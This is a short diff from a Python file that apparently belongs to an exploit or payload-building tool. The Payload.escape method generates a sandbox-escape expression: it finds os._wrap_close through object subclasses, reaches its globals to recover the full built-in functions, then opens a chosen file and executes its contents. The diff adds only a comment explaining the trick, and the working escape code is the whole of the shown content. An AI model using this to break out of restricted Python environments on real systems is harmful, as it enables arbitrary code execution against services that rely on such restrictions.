@@ -49,6 +49,7 @@ class Payload:
     def escape(self) -> str:
         """An expression that needs no built-in function, and therefore runs under restricted globals."""
         find = "[c for c in().__class__.__base__.__subclasses__()if c.__name__=='_wrap_close']"
+        # `os._wrap_close` is a class of Python code in every process: its globals hold the built-in functions.
         names = f"{find}[0].__init__.__globals__['__builtins__']"
         run = "b['exec'](f.read(),{'__builtins__':b})or f.close()"
         return f"[{run} for b in[{names}]for f in[b['open']({self.file!r})]]"
